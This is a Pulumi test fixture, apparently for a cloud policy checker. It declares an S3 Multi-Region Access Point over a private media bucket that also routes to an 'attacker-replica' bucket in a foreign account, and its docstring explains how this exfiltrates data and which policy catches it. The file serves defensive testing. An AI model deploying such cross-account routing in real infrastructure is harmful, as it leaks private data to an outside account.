"""Class 6 (exfiltration through a Multi-Region Access Point): an MRAP over the private media bucket also routes
to `attacker-replica`, a bucket of account 999999999999 (`bucketAccountId`).

Why it is dangerous: requests through the MRAP go to the nearest/available bucket: writes land in the other
account's bucket and reads are served from it. Why it passed (before the fix, red-team review of classes 6/7):
only the MRAP's public access block and policy were judged, not the accounts of the buckets it routes to.
Caught by: `s3-access-points-private`, mandatory.
"""

import pulumi_aws as aws
from _baseline import ACCOUNT, app_role, secure_bucket


def program() -> None:
    aws.Provider("main", allowed_account_ids=[ACCOUNT], region="us-east-1")
    secure_bucket("media")
    app_role()
    aws.s3control.MultiRegionAccessPoint(
        "media-global",
        details={
            "name": "media-global",
            "regions": [
                {"bucket": "corp-media"},
                {"bucket": "attacker-replica", "bucket_account_id": "999999999999"},
            ],
        },
    )
